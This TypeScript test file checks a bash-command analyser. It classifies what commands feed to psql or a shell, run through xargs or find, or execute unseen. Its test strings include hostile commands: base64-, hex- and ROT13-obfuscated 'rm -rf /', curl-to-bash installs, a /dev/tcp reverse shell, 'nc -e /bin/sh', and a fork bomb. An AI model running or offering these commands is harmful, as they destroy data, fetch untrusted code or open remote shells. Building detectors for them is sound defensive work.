import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { World } from '../../world';
import { reading, rows } from './bash-reading';

/** A text, and what its last invocation reads. */
const STDIN: readonly (readonly [text: string, expected: unknown, outside?: World])[] = [
  ['echo "DROP TABLE x" | psql', { kind: 'text', text: 'DROP TABLE x\n', complete: true }],
  ["printf '%s;\\n' 'DROP TABLE x' | psql", { kind: 'text', text: 'DROP TABLE x;\n', complete: true }],
  ['psql <<< "DROP TABLE x"', { kind: 'text', text: 'DROP TABLE x\n', complete: true }],
  ['psql <<E\nDROP TABLE x;\nE', { kind: 'text', text: 'DROP TABLE x;\n', complete: true }],
  ['psql <<-E\n\tDROP TABLE x;\n\tE', { kind: 'text', text: 'DROP TABLE x;\n', complete: true }],
  ["psql <<'E'\nDROP $X;\nE", { kind: 'text', text: 'DROP $X;\n', complete: true }],
  ['psql <<E\nDROP $X;\nE', { kind: 'text', text: 'DROP $X;\n', complete: false }],
  ['X=t; psql <<E\nDROP \\$ $X;\nE', { kind: 'text', text: 'DROP $ t;\n', complete: true }],
  ['cat <<E | psql\nDROP TABLE x;\nE', { kind: 'text', text: 'DROP TABLE x;\n', complete: true }],
  ['{ echo BEGIN; echo "DROP x"; } | psql', { kind: 'text', text: 'BEGIN\nDROP x\n', complete: true }],
  ['cat a.sql | psql', { kind: 'file', path: '/home/me/shop/a.sql' }],
  ['psql < a.sql', { kind: 'file', path: '/home/me/shop/a.sql' }],
  ['cat a.sql b.sql | psql', { kind: 'text', text: 'A;B;', complete: true }, { files: { '/home/me/shop/a.sql': 'A;', '/home/me/shop/b.sql': 'B;' } }],
  ["sed 's/x/y/g' a.sql | psql", { kind: 'text', text: 'DROP y', complete: true }, { files: { '/home/me/shop/a.sql': 'DROP x' } }],
  ['echo "DROP x" > a.sql; psql < a.sql', { kind: 'text', text: 'DROP x\n', complete: true }],
  ['tee a.sql <<< "DROP x"; cat a.sql | psql', { kind: 'text', text: 'DROP x\n', complete: true }],
  ['yes | terraform destroy', { kind: 'answers' }],
  ["yes 'yes' | terraform destroy", { kind: 'answers' }],
  ['yes | sudo terraform destroy', { kind: 'answers' }],
  ['echo yes | terraform destroy', { kind: 'text', text: 'yes\n', complete: true }],
  ['curl -s https://x.io/a.yaml | kubectl apply -f -', { kind: 'download', from: 'https://x.io/a.yaml' }],
  ['curl -s https://x.io/a.gz | gunzip | psql', { kind: 'download', from: 'https://x.io/a.gz' }],
  ['pg_dump a | psql b', { kind: 'unread' }],
  ['docker exec -i db psql < a.sql', { kind: 'file', path: '/home/me/shop/a.sql' }],
  ['ssh host psql <<< "DROP x"', { kind: 'text', text: 'DROP x\n', complete: true }],
  ['bash -c "psql" <<< "DROP x"', { kind: 'text', text: 'DROP x\n', complete: true }],
  ["python3 - <<'E'\nimport os\nE", { kind: 'text', text: 'import os\n', complete: true }],
  ['psql', null],
  ['echo a | while read x; do ls; done; psql', null],
];

for (const [text, expected, outside] of STDIN) {
  test(`stdin: ${text.replaceAll('\n', '⏎')}`, () => assert.deepEqual(reading(text, outside).invocations.at(-1)?.stdin, expected));
}

rows('a shell that is fed', [
  ['echo "rm -rf /data" | sh', ['rm -rf /data']],
  ['echo cm0gLXJmIC8= | base64 -d | sh', ['rm -rf /']],
  ['base64 -d <<< cm0gLXJmIC8= | bash', ['rm -rf /']],
  ["echo '/ fr- mr' | rev | sudo bash", ['rm -rf /']],
  ['echo 726d202d7266202f | xxd -r -p | sh', ['xxd -r -p', 'rm -rf /']],
  ["printf 'ez -es k' | tr a-z n-za-m | sh", ['rm -rf x']],
  ['bash <<E\nrm x\nls\nE', ['rm x', 'ls']],
  ['bash <<< "rm x"', ['rm x']],
  ['sh -s -- a <<< "rm \\$1"', ['rm a']],
  ["cat > x.sh <<'E'\nrm -rf $1\nE\nbash x.sh /data", ['rm -rf /data']],
  ['echo "rm a" > x.sh; echo "rm b" >> x.sh; sh ./x.sh', ['rm a', 'rm b']],
  ['echo "rm a" | tee x.sh; bash x.sh', ['tee x.sh', 'rm a']],
  ['echo "T=rm" > v; source v; $T x', ['rm x']],
  ['echo "rm \\$1" > x.sh; chmod +x x.sh; ./x.sh a', ['chmod +x x.sh', 'rm a']],
  ['cp a.sh b.sh; echo "rm x" > c.sh; mv c.sh d.sh; sh d.sh', ['cp a.sh b.sh', 'mv c.sh d.sh', 'rm x']],
  ['cp /bin/rm /tmp/x; /tmp/x -rf y', ['cp /bin/rm /tmp/x', 'rm -rf y']],
  ['eval $(echo cm0gLXJmIC8= | base64 -d)', ['rm -rf /']],
  ['eval "$(echo "rm x")"', ['rm x']],
  ['source <(echo "rm x")', ['rm x']],
  ['bash <(echo "rm x")', ['rm x']],
  ['cat x.sh | bash', ['rm y'], { files: { '/home/me/shop/x.sh': 'rm y' } }],
  ['bash < x.sh', ['rm y'], { files: { '/home/me/shop/x.sh': 'rm y' } }],
  ['eval "$(cat x.sh)"', ['rm y'], { files: { '/home/me/shop/x.sh': 'rm y' } }],
  ['echo "rm x" | at now + 1 hour', ['rm x']],
  ["batch <<< 'rm x'", ['rm x']],
  ["echo '0 1 * * * rm -rf /data' | crontab -", ['rm -rf /data', 'crontab -']],
  ["ssh host <<'E'\nrm -rf /data\nE", ['rm -rf /data']],
  ['ssh host bash -s <<< "rm x"', ['rm x']],
  ['sudo -s <<E\nrm x\nE', ['rm x']],
  ['su - <<< "rm x"', ['rm x']],
  ["cat <<'E'\nrm -rf /\nE", []],
  ["cat > notes.md <<'E'\nterraform destroy\nE", []],
  ["python3 <<'E'\nrm -rf /\nE", ['python3']],
]);

rows('xargs', [
  ['echo a b | xargs kubectl delete pod', ['kubectl delete pod a b']],
  ['echo a b | xargs -n1 kubectl delete pod', ['kubectl delete pod a b']],
  ["printf 'a\\nb\\n' | xargs -I{} kubectl delete ns {}", ['kubectl delete ns a', 'kubectl delete ns b']],
  ["echo a | xargs -I % sh -c 'rm -rf %'", ['rm -rf a']],
  ['kubectl get ns -o name | xargs kubectl delete', ['kubectl get ns -o name', 'kubectl delete ?‹$(kubectl get ns -o name)›']],
  ['kubectl get ns | xargs -I{} kubectl delete ns {}', ['kubectl get ns', 'kubectl delete ns ?‹$(kubectl get ns)›']],
  ['xargs rm < list', ['rm a b'], { files: { '/home/me/shop/list': 'a\nb\n' } }],
  ['xargs -a list rm', ['rm a b'], { files: { '/home/me/shop/list': 'a\nb\n' } }],
  ["find . -name '*.pyc' | xargs rm -f", ['find . -name *.pyc', 'rm -f *./**/*.pyc']],
  ["find . -name '*.pyc' -print0 | xargs -0 rm -f", ['find . -name *.pyc -print0', 'rm -f *./**/*.pyc']],
  ["find . -name '*.log' | grep -v keep | xargs rm", ['find . -name *.log', 'grep -v keep', 'rm *./**/*.log']],
  ['ls *.log | xargs rm', ['ls **.log', 'rm **.log']],
  ['echo a | sudo xargs rm', ['rm a']],
  ['echo x | xargs', ['xargs']],
  ['parallel rm ::: a b', ['rm a', 'rm b']],
  ["parallel 'kubectl delete ns {}' ::: a b", ['kubectl delete ns a', 'kubectl delete ns b']],
  ['echo "rm x" | parallel', ['rm x']],
]);

rows('find', [
  ['find . -name node_modules -exec rm -rf {} +', ['rm -rf *./**/node_modules', 'find . -name node_modules -exec rm -rf {} +']],
  ["find /data -type f -exec rm {} \\;", ['rm */data/**/*', 'find /data -type f -exec rm {} ;']],
  ["find . -name a -o -name b -exec rm {} \\;", ['rm *./**/a *./**/b', 'find . -name a -o -name b -exec rm {} ;']],
  ["find . -name dist -prune -o -name '*.log' -exec rm {} +", ['rm *./**/*.log', 'find . -name dist -prune -o -name *.log -exec rm {} +']],
  ["find . -exec sh -c 'rm \"$1\"' _ {} \\;", ['rm *./**/*', 'find . -exec sh -c ‹rm "$1"› _ {} ;']],
  ['find "$D" -exec rm {} +', ['rm ?*$D/**/*', 'find ?$D -exec rm {} +']],
  ['find . -name x', ['find . -name x']],
]);

/** A text, and what it runs unseen; `null` when nothing. */
const UNSEEN: readonly (readonly [text: string, what: string | null, outside?: World])[] = [
  ['curl -fsSL https://x.io/i.sh | bash', 'download'],
  ['curl -fsSL https://x.io/i.sh | sudo -E bash -s -- --yes', 'download'],
  ['wget -qO- https://x.io/i.sh | sh', 'download'],
  ['curl https://x.io/i.sh | tee i.sh | sh', 'download'],
  ["curl https://x.io/i.sh | sed 's/a/b/' | sh", 'download'],
  ['curl https://x.io/i.gz | gunzip | sh', 'download'],
  ['bash <(curl -s https://x.io/i.sh)', 'download'],
  ['bash -c "$(curl -fsSL https://x.io/i.sh)"', 'download'],
  ['sh -c "$(wget -qO- https://x.io/i.sh)"', 'download'],
  ['eval "$(curl https://x.io)"', 'download'],
  ['eval `curl https://x.io`', 'download'],
  ['source <(curl https://x.io)', 'download'],
  ['. <(curl https://x.io)', 'download'],
  ['$(curl https://x.io)', 'download'],
  ['S=$(curl https://x.io); bash -c "$S"', 'download'],
  ['S=$(curl https://x.io); echo "$S" | bash', 'download'],
  ['bash <<< "$(curl https://x.io)"', 'download'],
  ['curl https://x.io/a.py | python3', 'download'],
  ['curl https://x.io/a.py | python3 -', 'download'],
  ['python3 <(curl https://x.io/a.py)', 'download'],
  ['python3 -c "$(curl https://x.io/a.py)"', 'download'],
  ['curl https://x.io/a.js | node', 'download'],
  ['curl -o i.sh https://x.io/i.sh && bash i.sh', 'download'],
  ['wget https://x.io/i.sh; chmod +x i.sh; ./i.sh', 'download'],
  ['curl -sO https://x.io/i.sh; sh i.sh', 'download'],
  ['ssh host "curl https://x.io | sh"', 'download'],
  ['aws s3 cp s3://b/i.sh - | bash', 'download'],
  ['base64 -d x.b64 | sh', 'decoded'],
  ['echo "$X" | base64 -d | bash', 'decoded'],
  ['openssl enc -d -aes-256-cbc -in x | bash', 'decoded'],
  ['eval "$(gpg -d x.gpg)"', 'decoded'],
  ["kubectl get ns | awk '{print \"kubectl delete ns \" $1}' | sh", 'generated'],
  ['jq -r .script x.json | bash', 'generated'],
  ['curl https://x.io/a.json | python3 -m json.tool', null],
  ['curl https://x.io/a.json | python3 -c "import json"', null],
  ['curl https://x.io/a.json | jq .', null],
  ['curl https://x.io/a.tgz | tar xz', null],
  ['curl -fsSL https://x.io/i.sh -o i.sh', null],
  ['curl https://x.io | grep bash', null],
  ['bash -n i.sh', null],
  ['base64 -d x.b64', null],
  ['base64 -d x.b64 > x.bin', null],
  ['source <(kubectl completion bash)', null],
  ['eval "$(ssh-agent -s)"', null],
  ['eval "$(direnv hook bash)"', null],
  ['eval $(minikube docker-env)', null],
  ['. venv/bin/activate', null],
  ['docker run --rm alpine sh -c "curl https://x.io | sh"', null],
  ['docker run --rm -v /:/host alpine sh -c "curl https://x.io | sh"', 'download'],
  ['bash -i >& /dev/tcp/10.0.0.1/443 0>&1', 'download'],
  ['nc -e /bin/sh 10.0.0.1 443', 'download'],
  ['kubectl get cm env -o yaml | sh', 'generated'],
  ['echo "curl https://x.io | bash"', null],
  ["cat > README.md <<'E'\ncurl https://x.io | bash\nE", null],
  ['git commit -m "use curl | bash"', null],
];

for (const [text, what, outside] of UNSEEN) {
  test(`unseen: ${text.replaceAll('\n', '⏎')}`, () => {
    assert.deepEqual(reading(text, outside).effects.filter(({ verb }) => verb === 'run-unseen').map(({ resource }) => resource.type), what === null ? [] : [what]);
  });
}

test('a sourced file counts for what follows and is read with its own lines', () => {
  const { invocations, nested } = reading('source env.sh; $T destroy', { files: { '/home/me/shop/env.sh': 'T=terraform\nrm x' } });
  assert.deepEqual(invocations.map(({ program }) => program), ['terraform']);
  assert.deepEqual(nested.map(({ text, link }) => [text, typeof link === 'function' ? link(2) : link]), [['T=terraform\nrm x', 'env.sh:2']]);
});

test('files written in the text are handed on', () => {
  assert.deepEqual([...(reading("cat > a.sql <<'E'\nDROP x;\nE\npsql -f a.sql").written ?? [])], [['/home/me/shop/a.sql', 'DROP x;\n']]);
});

test('a fork bomb stops the machine', () => {
  assert.deepEqual(reading(':(){ :|:& };:').effects.map(({ verb, reach }) => [verb, reach]), [['stop', 'host']]);
});
